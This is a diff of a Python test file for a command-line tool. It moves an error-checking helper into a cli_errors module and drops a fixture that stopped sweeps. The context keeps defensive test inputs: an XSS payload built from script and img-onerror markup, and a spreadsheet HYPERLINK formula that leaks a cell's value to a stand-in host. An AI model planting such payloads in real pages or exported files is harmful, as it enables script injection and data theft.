@@ -27,6 +27,7 @@ from pathlib import Path
 import numpy as np
 import pandas as pd
 import pytest
+from cli_errors import one_line_error
 from raw_market import EVENT
 from test_generalize_page import synthetic
 from test_pages import sweep_result
@@ -39,22 +40,6 @@ HOSTILE = '<script>window.__pwned=1</script><img src=x onerror="window.__pwned=2
 RAW = ("<script>window.__pwned", "<img src=x")  # what must never be in a page as markup
 FORMULA = '=HYPERLINK("https://example.invalid/?leak="&A1,"click")'
 POWER = ["event", EVENT, "--universe", "power"]  # a small event study: four names, about 1 s
-
-
-def one_line_error(capsys, argv: list[str]) -> str:
-    code = main(argv)
-    err = capsys.readouterr().err
-    assert code == 2, err
-    assert err.startswith("aishock: error: ") and err.count("\n") == 1 and "Traceback" not in err
-    return err.strip()
-
-
-@pytest.fixture
-def no_sweep(monkeypatch):
-    """Fails the test if a sweep starts computing."""
-    import engine.sweeps.search as search
-
-    monkeypatch.setattr(search, "sweep", lambda *a, **k: pytest.fail("the sweep started computing"))
 
 
 @pytest.fixture
